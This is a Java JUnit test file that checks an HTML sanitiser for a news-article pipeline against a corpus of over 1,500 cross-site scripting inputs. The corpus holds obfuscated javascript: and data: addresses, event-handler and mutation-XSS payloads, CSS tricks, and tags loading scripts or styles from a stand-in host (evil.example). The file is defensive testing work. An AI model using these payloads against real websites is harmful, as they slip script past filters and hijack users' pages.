package org.yizhan.normalize;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.yizhan.Cases;
import org.yizhan.Row;
import org.yizhan.article.Article;

/**
 * S15: the known ways to get a script past a sanitiser, by kind. What comes out is allowed, and is the same when it goes through
 * again.
 */
@Row("S15")
public class SanitiserCorpusTest {

    private static final String BASE = "https://www.example.gov.cn/zwgk/202611/t1.htm";

    /** Spellings of one address that runs a script. */
    private static final List<String> SCRIPTED = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "javascript&#0000058alert(1)",
            "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
            "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
            "jav&#x09;ascript:alert(1)",
            "jav&#x0A;ascript:alert(1)",
            "jav&#x0D;ascript:alert(1)",
            "jav\tascript:alert(1)",
            "jav\nascript:alert(1)",
            "jav&Tab;ascript:alert(1)",
            "java&NewLine;script:alert(1)",
            "java\0script:alert(1)",
            " javascript:alert(1)",
            "&#1;javascript:alert(1)",
            "&#14;  javascript:alert(1)",
            "\u00a0javascript:alert(1)",
            "\u3000javascript:alert(1)",
            "javascript://example.org/%0Aalert(1)",
            "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
            "vbscript:msgbox(1)",
            "livescript:alert(1)",
            "mocha:alert(1)",
            "view-source:javascript:alert(1)",
            "feed:javascript:alert(1)",
            "jar:https://evil.example/x.jar!/x.html",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg onload=alert(1)>",
            "data:application/xhtml+xml,<x/>",
            "data:;base64,AAAA",
            "DATA:text/html,x",
            "blob:https://evil.example/1",
            "filesystem:https://evil.example/1",
            "file:///etc/passwd",
            "about:blank",
            "mhtml:https://evil.example/x");

    /** Where browsers follow an address. */
    private static final List<String> FOLLOWED = List.of(
            "<a href=\"%s\">甲</a>",
            "<a xlink:href=\"%s\">甲</a>",
            "<a href=\"https://example.org/\" ping=\"%s\">甲</a>",
            "<area href=\"%s\">",
            "<map><area href=\"%s\"></map>",
            "<img src=\"%s\">",
            "<img srcset=\"%s 1x\">",
            "<img lowsrc=\"%s\">",
            "<img dynsrc=\"%s\">",
            "<img longdesc=\"%s\">",
            "<img src=\"https://example.org/a.png\" usemap=\"%s\">",
            "<picture><source srcset=\"%s\"><img></picture>",
            "<input type=image src=\"%s\">",
            "<form action=\"%s\"><input type=submit></form>",
            "<button formaction=\"%s\">甲</button>",
            "<isindex action=\"%s\">",
            "<body background=\"%s\">",
            "<table background=\"%s\"><tr><td background=\"%s\">甲</td></tr></table>",
            "<blockquote cite=\"%s\">甲</blockquote>",
            "<q cite=\"%s\">甲</q>",
            "<del cite=\"%s\">甲</del>",
            "<ins cite=\"%s\">甲</ins>",
            "<iframe src=\"%s\"></iframe>",
            "<frameset><frame src=\"%s\"></frameset>",
            "<embed src=\"%s\">",
            "<object data=\"%s\"><param name=src value=\"%s\"></object>",
            "<applet codebase=\"%s\" code=x></applet>",
            "<audio src=\"%s\"></audio>",
            "<video src=\"%s\" poster=\"%s\"></video>",
            "<track src=\"%s\">",
            "<link rel=stylesheet href=\"%s\">",
            "<link rel=import href=\"%s\">",
            "<base href=\"%s\">",
            "<meta http-equiv=refresh content=\"0;url=%s\">",
            "<script src=\"%s\"></script>",
            "<svg><a xlink:href=\"%s\"><text>甲</text></a></svg>",
            "<svg><image xlink:href=\"%s\"/></svg>",
            "<svg><use href=\"%s#x\"/></svg>",
            "<svg><animate attributeName=href values=\"%s\"/></svg>",
            "<svg><set attributeName=href to=\"%s\"/></svg>",
            "<math href=\"%s\">甲</math>",
            "<math><maction actiontype=statusline xlink:href=\"%s\">甲</maction></math>",
            "<bgsound src=\"%s\">",
            "<layer src=\"%s\"></layer>",
            "<xml src=\"%s\"></xml>",
            "<portal src=\"%s\"></portal>",
            "<div style=\"background:url('%s')\">甲</div>");

    private static final List<String> TRICKS = List.of(
            // tags the reader and the browser may cut differently
            "<script>alert(1)</script>",
            "<SCRIPT\n>alert(1)</SCRIPT\n>",
            "<script/x>alert(1)</script>",
            "<script\u000b>alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>alert(1);//<</script>",
            "<script>alert(1)",
            "<script src=//evil.example/x.js?<b>",
            "\"><script>alert(1)</script>",
            "'';!--\"<x>=&{()}",
            "</p><script>alert(1)</script><p>",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
            "<img src=\"x` `<script>alert(1)</script>\"` `>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<!--><script>alert(1)</script>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<!-- --!><script>alert(1)</script>",
            "<? foo=\"><script>alert(1)</script>\">",
            "<! foo=\"><script>alert(1)</script>\">",
            "</ foo=\"><script>alert(1)</script>\">",
            "<% foo><x foo=\"%><script>alert(1)</script>\">",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            // handlers
            "<img src=x onerror=alert(1)>",
            "<img src=x OnErRoR = alert(1) >",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror\n=\nalert(1)>",
            "<img src=x \u000conerror=alert(1)>",
            "<img src=`x`onerror=alert(1)>",
            "<img src='x'onerror='alert(1)'>",
            "<body onload=alert(1)>",
            "<body onpageshow=alert(1)>",
            "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>甲</p>",
            "<details open ontoggle=alert(1)><summary>甲</summary></details>",
            "<marquee onstart=alert(1)>甲</marquee>",
            "<xss onpointerrawupdate=alert(1)>甲</xss>",
            "<p onanimationstart=alert(1) style=animation-name:x>甲</p>",
            "<div contenteditable onbeforeinput=alert(1)>甲</div>",
            "<a href=https://example.org/ onclick=alert(1)//>甲</a>",
            "<video><source onerror=alert(1)></video>",
            "<input onfocus=alert(1) autofocus>",
            "<keygen autofocus onfocus=alert(1)>",
            // CSS
            "<style>@import'https://evil.example/x.css';</style>",
            "<style>body{-moz-binding:url(https://evil.example/x)}</style>",
            "<p style=width:expression(alert(1))>甲</p>",
            "<p style=\"background-image:\\0075\\0072\\006C(javascript:alert(1))\">甲</p>",
            "<p style=\"position:fixed;inset:0\">甲</p>",
            "<link rel=stylesheet href=data:text/css,x>",
            "<style><!--</style><script>alert(1)//--></script>",
            // markup that changes when it is written and read again
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
            "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
            "<plaintext><img src=x onerror=alert(1)>",
            "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
            "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
            "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
            "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
            "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
            "<svg><title><style></title><img src=x onerror=alert(1)></style>",
            "<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript>",
            "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
            "<svg><script>alert&lpar;1&rpar;</script></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
            "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<form id=x><div></form><div id=y><form><input name=attributes>",
            "<table><td><svg><a><style><img src=x onerror=alert(1)></style>",
            "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
            "<template><img src=x onerror=alert(1)></template>",
            "<template shadowrootmode=open><script>alert(1)</script></template>",
            "<a><a><p><a><div><a>甲",
            "<p><table><p><td><p>甲",
            "<b><p><i></b><table><b>甲</table></i>",
            "<a href=\"https://example.org/&quot;onmouseover=&quot;alert(1)\">甲</a>",
            "<img alt=\"&lt;script&gt;alert(1)&lt;/script&gt;\" src=https://example.org/a.png>",
            "<img alt=\"` onerror=alert(1) `\" src=https://example.org/a.png>",
            "<a title=\"</a><script>alert(1)</script>\" href=https://example.org/>甲</a>",
            // what takes the page over
            "<base href=https://evil.example/><a href=x>甲</a>",
            "<base href=javascript:/a/-alert(1)///><a href=../lol/safe.html>甲</a>",
            "<meta http-equiv=refresh content=0;url=https://evil.example/>",
            "<meta http-equiv=Content-Security-Policy content=x>",
            "<meta charset=utf-7>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<object type=text/html data=https://evil.example/></object>",
            "<embed type=image/svg+xml src=https://evil.example/x.svg>",
            "<html manifest=https://evil.example/x><body>甲",
            "<slot name=x><p slot=x>甲</p></slot>",
            "<p id=location name=cookie class=admin>甲</p>",
            "<a target=_blank rel=opener href=https://example.org/>甲</a>",
            "<div is=x-y>甲</div>");

    /** What is left of each, to be looked at in a browser. */
    public static List<String> cleaned() {
        return corpus().map(SanitiserCorpusTest::clean).distinct().toList();
    }

    static Stream<String> corpus() {
        Stream<String> addresses =
                FOLLOWED.stream().flatMap(place -> SCRIPTED.stream().map(address -> place.replace("%s", address)));
        return Stream.concat(addresses, TRICKS.stream());
    }

    @Test
    void leavesOnlyWhatIsAllowed(Cases cases) {
        assertThat(corpus()).hasSizeGreaterThan(1_500).allSatisfy(hostile -> {
            AllowedMarkup.assertHolds(clean("<p>前</p>" + hostile + "<p>后</p>"));
            AllowedMarkup.assertHolds(clean(hostile));
            cases.held();
        });
    }

    @Test
    void isTheSameWhenItGoesThroughAgain(Cases cases) {
        assertThat(corpus()).allSatisfy(hostile -> {
            String once = clean("<p>前</p>" + hostile + "<p>后</p>");

            assertThat(clean(once)).isEqualTo(once);
            cases.held();
        });
    }

    @Test
    void holdsForTricksPutTogetherByChance(Cases cases) {
        var random = new Random(15);
        for (int round = 0; round < 2_000; round++) {
            var markup = new StringBuilder();
            for (int i = 1 + random.nextInt(4); i > 0; i--) {
                String trick = TRICKS.get(random.nextInt(TRICKS.size()));
                int from = random.nextInt(trick.length());
                markup.append(random.nextBoolean() ? trick : trick.substring(from));
            }
            String once = clean(markup.toString());

            AllowedMarkup.assertHolds(once);
            assertThat(clean(once)).as(markup.toString()).isEqualTo(once);
            cases.held();
        }
    }

    static List<String> tricks() {
        return TRICKS;
    }

    @ParameterizedTest
    @MethodSource("tricks")
    void makesNoMarkupOfATitleAColumnOrAName(String hostile) {
        Article article = Pushes.article("title", "题" + hostile, "text", "文。" + hostile, "column", "栏" + hostile);

        assertThat(article.html()).isEmpty();
        assertThat(article.title()).startsWith("题").doesNotContain("\n");
        assertThat(article.paragraphs().getFirst()).startsWith("文。");
    }

    @ParameterizedTest
    @MethodSource("tricks")
    void holdsForFetchedPages(String hostile) {
        String page = "<title>题目在此</title><h1>题目在此</h1><div><p>社区食堂本周在城南开张，六十岁以上的老人凭卡就餐，首日供应午餐三百份。</p>" + hostile
                + "<p>后面还有一段，说的是菜价没有涨，盐和油减了三成。</p></div>";
        var received = WebPages.received(page.getBytes(UTF_8), "text/html", BASE);

        AllowedMarkup.assertHolds(Pushes.normalize(received).getFirst().html());
    }

    private static String clean(String markup) {
        return SanitisedHtml.of(markup, BASE).html();
    }
}
